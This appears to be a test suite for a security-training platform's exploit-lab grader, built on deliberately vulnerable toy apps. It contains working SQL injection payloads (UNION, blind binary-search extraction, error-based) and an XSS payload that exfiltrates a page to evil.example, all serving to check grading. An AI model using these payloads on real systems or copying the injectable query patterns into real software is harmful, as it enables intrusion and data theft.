import type { LabLogEntry, LabLogRequest, LabPack } from '@drawbridge/contracts/practice';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openPreview, runVisible, toDecoy } from '../engine/index.ts';
import { buildEngine, buildLab, buildProgram } from '../testing/build-lab.ts';
import { createTestGrader } from '../testing/test-grader.ts';
import type { Grader } from './grader.ts';
import type { LoadedLab } from './lab.ts';
import { verifyLab } from './verify.ts';

const FLAG = 'flag{the-real-one}';
const get = (url: string): LabLogRequest => ({ method: 'GET', url, headers: {}, body: '' });

/** A notice board whose search shows every row to an SQL injection. */
function buildAttackLab(id: string, goal: NonNullable<LabPack['goal']>, routes: string): LoadedLab {
  const sql =
    "CREATE TABLE notes (text TEXT, secret INT); INSERT INTO notes VALUES ('open', 0), ('{{flag}}', 1);";
  const { files } = buildProgram(routes);
  const lab = buildLab();
  const script = { path: 'attack.js', text: '' };
  const goalTest = {
    id: 'goal',
    title: goal.title,
    kind: 'goal' as const,
    visibility: 'visible' as const,
    weight: 1,
    source: '',
  };
  const { visibility: _, ...shown } = goalTest;
  return {
    ...lab,
    pack: {
      ...lab.pack,
      lab_id: id,
      kind: 'exploit',
      goal,
      files: goal.by === 'script' ? [...files, script] : files,
      editable: goal.by === 'script' ? ['attack.js'] : ['nothing'],
      seed: { sql, world: {} },
      content_hash: 'c0ffee0000000000aaaa',
      tests: [shown],
    },
    tests: [goalTest],
  };
}

const OPEN =
  "app.get('/', (q, r) => r.send(db.all(\"SELECT text FROM notes WHERE secret = 0 AND text LIKE '%\" + q.query.q + \"%'\").map((row) => row.text).join(' ')));";
const BLIND =
  "app.get('/', (q, r) => r.send(db.all(\"SELECT 1 FROM notes WHERE secret = 0 AND text = '\" + q.query.q + \"'\").length > 0 ? 'yes' : 'no'));";
const byLog = buildAttackLab('by-log', { by: 'log', title: 'Read the hidden note', script: '' }, OPEN);
const byScript = buildAttackLab(
  'by-script',
  { by: 'script', title: 'Read it by yes and no', script: 'attack.js' },
  BLIND,
);
const UNION = get(`/?q=${encodeURIComponent("x' UNION SELECT text FROM notes WHERE secret = 1 --")}`);
/** One query at a time, as long as it takes. */
const SCRIPT = `
const me = client();
const yes = async (condition) => (await me.get('/?q=' + encodeURIComponent("open' AND " + condition + " --"))).body === 'yes';
let flag = '';
for (;;) {
  let low = 32, high = 127;
  const at = "(SELECT unicode(substr(text, " + (flag.length + 1) + ", 1)) FROM notes WHERE secret = 1)";
  if (!(await yes(at + ' > 0'))) break;
  while (high - low > 1) { const middle = Math.floor((low + high) / 2); if (await yes(at + ' >= ' + middle)) low = middle; else high = middle; }
  flag += String.fromCharCode(low);
}
found(flag);`;

let grader: Grader;
beforeAll(async () => {
  grader = await createTestGrader({ labs: [byLog, byScript] });
});
afterAll(() => grader.close());

const attack = (log: LabLogEntry[], flag = FLAG) => grader.grade('by-log', [], '', { log, flag });
const script = (text: string, flag = FLAG) =>
  grader.grade('by-script', [{ path: 'attack.js', text }], '', { log: [], flag });

describe('an exploit lab that takes a log of requests', () => {
  it("the lab is solved when the replay discloses this learner's own flag", async () => {
    const result = await attack([get('/?q=open'), UNION]);
    expect(result).toMatchObject({ verdict: 'passed', score: 10, max: 10 });
    expect(result.tests[0]?.message).toContain(FLAG);
    expect(result.tests[0]?.replay?.at(-1)?.response).toContain(FLAG);
  });
  it.each([
    ['nothing', []],
    ['harmless requests', [get('/?q=open'), get('/nothing')]],
    ['a log that carries the flag to the app itself', [get(`/?q=${encodeURIComponent(FLAG)}`)]],
    ['a log that carries the practice flag', [get(`/?q=${toDecoy(byLog.pack)}`)]],
  ])('the lab is not solved by %s', async (_name, log) => {
    expect(await attack(log)).toMatchObject({ verdict: 'failed', score: 0 });
  });
  it.each([
    ['an empty log that nothing was done yet', [], /^There is no attack yet: attack the app in the preview/],
    ['other requests that none of them brought the flag', [get('/?q=open')], /nothing that came back to you/],
  ])('the lab reports %s', async (_name, log, message) => {
    expect((await attack(log)).tests[0]?.message).toMatch(message);
  });
  it('another log has another submission hash', async () => {
    const [one, two] = [await attack([UNION]), await attack([UNION, UNION])];
    expect(one.submission_hash).not.toBe(two.submission_hash);
  });
});

describe('an exploit lab that takes a script', () => {
  it('the lab is solved by a script that finds any flag', async () => {
    expect(await script(SCRIPT)).toMatchObject({ verdict: 'passed' });
    expect(await script(SCRIPT, 'flag{another}')).toMatchObject({ verdict: 'passed' });
  });
  it.each([
    ['nothing', '', 'no attack yet'],
    ['the practice flag', `found('${toDecoy(byScript.pack)}')`, 'without naming the flag'],
    ['claiming success', "return 'passed'", 'without naming the flag'],
    ['an error', 'undefined.x', 'TypeError'],
    [
      'the database of the harness',
      "typeof sql === 'undefined' ? fail('no sql') : sql('SELECT 1')",
      'no sql',
    ],
    [
      'the log of the harness',
      "typeof events === 'undefined' ? fail('no events') : found(JSON.stringify(events()))",
      'no events',
    ],
  ])('the script lab is not solved by %s', async (_name, text, words) => {
    const { verdict, tests } = await script(text);
    expect(verdict).not.toBe('passed');
    expect(tests[0]?.message).toContain(words);
  });
  it.each([
    ['the events of a reply', 'JSON.stringify(reply.events) + typeof reply.of'],
    ['the fuel of a reply', 'String(reply.fuel)'],
    ['the names of all it holds', 'JSON.stringify(Object.keys(reply).sort())'],
  ])('labs fault 6: the script is not told %s', async (_name, what) => {
    const search = `/?q=${encodeURIComponent("x' OR json_extract('{}', (SELECT text FROM notes WHERE secret = 1)) --")}`;
    const source = `const reply = await client().get(${JSON.stringify(search)}); const seen = ${what};
const flag = /flag\\{[^}]*\\}/.exec(seen); if (flag) found(flag[0]); else fail('it sees ' + seen);`;
    const { verdict, tests } = await script(source);
    expect(verdict).toBe('failed');
    expect(tests[0]?.message).toMatch(/^it sees (undefined|undefinedundefined|\[.*\])$/);
    expect(tests[0]?.message).not.toMatch(/events|fuel/);
  });
  it('labs fault 6: the script is told whether its sign-in opened a session, and no more', async () => {
    expect((await script("await signIn('nobody', 'x')")).tests[0]?.message).toContain('none was opened');
  });
  it('labs fault 6: what the app did inside is shown only once the flag was read', async () => {
    const error = get(
      `/?q=${encodeURIComponent("x' OR json_extract('{}', (SELECT text FROM notes WHERE secret = 1)) --")}`,
    );
    const failed = await attack([error]);
    expect(failed.verdict).toBe('failed');
    expect(failed.tests[0]?.replay).toMatchObject([{ url: error.url, status: 500, events: [] }]);
    expect(JSON.stringify(failed)).not.toContain(FLAG);
    const passed = await attack([error, UNION]);
    expect(passed.tests[0]?.replay?.at(-1)?.events).not.toEqual([]);
    const page = runVisible(await buildEngine(), byLog.pack, [], [error]);
    expect(page.tests[0]?.replay?.[0]?.events.map(({ text }) => text).join()).toContain(toDecoy(byLog.pack));
  });
  it('an endless script is stopped, and the next one runs', async () => {
    expect(await script('for (;;);')).toMatchObject({ verdict: 'error' });
    expect(await script('const me = client(); for (;;) await me.get("/");')).toMatchObject({
      verdict: 'error',
    });
    expect(await script(SCRIPT)).toMatchObject({ verdict: 'passed' });
  });
});

describe('the preview on the page', () => {
  it('the preview contains a practice flag, and reports when it was disclosed', async () => {
    const engine = await buildEngine();
    const preview = openPreview(engine, byLog.pack, []);
    expect(preview.request({ method: 'GET', url: '/?q=open' }).flagged).toBe(false);
    const reply = preview.request({ method: 'GET', url: UNION.url });
    expect(reply.flagged).toBe(true);
    expect(reply.exchanges[0]?.response.body).toContain(toDecoy(byLog.pack));
    expect(runVisible(engine, byLog.pack, [], preview.log()).tests[0]?.status).toBe('passed');
    expect(await attack(preview.log())).toMatchObject({ verdict: 'passed' });
    preview.reset();
    expect(preview.log()).toEqual([]);
    preview.close();
  });
  it('the preview recognizes a breach of a fix lab when it happens, and none in honest use', async () => {
    const engine = await buildEngine();
    const breaches = [{ id: 'in', title: 'Input became SQL', all: [{ kind: 'sql', injected: 'some' }] }];
    const preview = openPreview(engine, { ...byLog.pack, breaches }, []);
    expect(preview.request({ method: 'GET', url: '/?q=open' }).breaches).toEqual([]);
    expect(preview.request({ method: 'GET', url: UNION.url }).breaches).toMatchObject([{ id: 'in' }]);
    preview.close();
  });
});

describe('an attack that sends a user to a page', () => {
  const STAFF = `app.use((q, r, next) => { if (q.path === '/login' && q.method === 'POST') { sessions.open(r, q.body.user); return r.redirect('/'); } next(); });
app.get('/login', (q, r) => r.send('<form method=post><input name=user><input name=password></form>'));
app.get('/find', (q, r) => r.send('<p>Nothing for ' + q.query.q + '</p>'));
app.get('/desk', (q, r) => sessions.user(q) === 'mira' ? r.send(db.get('SELECT text FROM notes WHERE secret = 1').text) : r.sendStatus(403));`;
  const CARRY =
    "<script>fetch('/desk').then((r) => r.text()).then((t) => fetch('https://evil.example/' + encodeURIComponent(t)))</script>";
  const base = buildAttackLab('by-log', { by: 'log', title: 'Read the desk', script: '' }, STAFF);
  const lab = {
    ...base.pack,
    accounts: [{ name: 'Mira', note: '', user: 'mira', password: 'x' }],
    seed: {
      ...base.pack.seed,
      world: { victims: ['mira'], signIn: { path: '/login', user: 'user', password: 'password' } },
    },
  };
  const statusOf = async (log: LabLogEntry[]) =>
    runVisible(await buildEngine(), lab, [], log).tests[0]?.status;

  it("the attack is solved when the page in the user's browser sends the flag to the attacker", async () => {
    expect(await statusOf([{ victim: 'mira', url: `/find?q=${encodeURIComponent(CARRY)}` }])).toBe('passed');
    const attacker = `<form action="https://app.test/find"><input name="q" value="${CARRY}"></form><script>document.forms[0].submit()</script>`;
    expect(await statusOf([{ victim: 'mira', html: attacker }])).toBe('passed');
  });
  it('the attack is not solved by showing the flag to the user', async () => {
    expect(await statusOf([{ victim: 'mira', url: '/desk' }])).toBe('failed');
  });
  it('the attack is not solved by a stranger, or by a user who follows no links', async () => {
    expect(await statusOf([{ victim: '', url: `/find?q=${encodeURIComponent(CARRY)}` }])).toBe('failed');
    expect(await statusOf([{ victim: 'bo', url: '/desk' }])).toBe('failed');
  });
  it('the attack may send a user whose password differs in every world', async () => {
    const guarded = buildAttackLab(
      'by-log',
      { by: 'log', title: 'Read the desk', script: '' },
      `app.use((q, r, next) => q.path === '/login' && q.method === 'POST' && !db.get('SELECT 1 FROM notes WHERE text = ?', q.body.password) ? r.sendStatus(401) : next());${STAFF}`,
    );
    const victims = [{ user: 'mira', password: '{{flag}}', name: 'Mira' }];
    const pack = {
      ...guarded.pack,
      seed: { ...guarded.pack.seed, world: { ...lab.seed.world, victims } },
    };
    const log = [{ victim: 'mira', url: `/find?q=${encodeURIComponent(CARRY)}` }];
    expect(runVisible(await buildEngine(), pack, [], log).tests[0]?.status).toBe('passed');
    const preview = openPreview(await buildEngine(), pack, []);
    expect(preview.visitAs('mira', log[0]?.url ?? '').flagged).toBe(true);
    preview.close();
  });
  it('the attack is logged in the preview, and a visit that cannot be made is not', async () => {
    const preview = openPreview(await buildEngine(), lab, []);
    expect(preview.visitAs('mira', `/find?q=${encodeURIComponent(CARRY)}`).flagged).toBe(true);
    expect(() => preview.visitAs('bo', '/desk')).toThrow('does not follow links');
    expect(preview.log()).toHaveLength(1);
    expect(await statusOf(preview.log())).toBe('passed');
    preview.close();
  });
});

describe('verify', () => {
  const claims = async (lab: LoadedLab) =>
    (await verifyLab(await buildEngine(), grader, lab))
      .filter(({ holds }) => !holds)
      .map(({ claim }) => claim);
  it('verify accepts an exploit lab whose author can solve it', async () => {
    expect(
      await claims({ ...byLog, exploits: [{ id: 'union', title: 'Union', requests: [UNION] }] }),
    ).toEqual([]);
    expect(
      await claims({ ...byScript, solution: { files: [{ path: 'attack.js', text: SCRIPT }], html: '' } }),
    ).toEqual([]);
  });
  it('verify refuses a lab whose log or script does not read the flag', async () => {
    expect(
      await claims({ ...byLog, exploits: [{ id: 'union', title: 'Union', requests: [get('/?q=a')] }] }),
    ).toEqual(['the log union reads the flag, whichever it is']);
    expect(
      await claims({
        ...byScript,
        solution: { files: [{ path: 'attack.js', text: `found('${toDecoy(byScript.pack)}')` }], html: '' },
      }),
    ).toContain("the author's script reads the flag, whichever it is");
  });
});
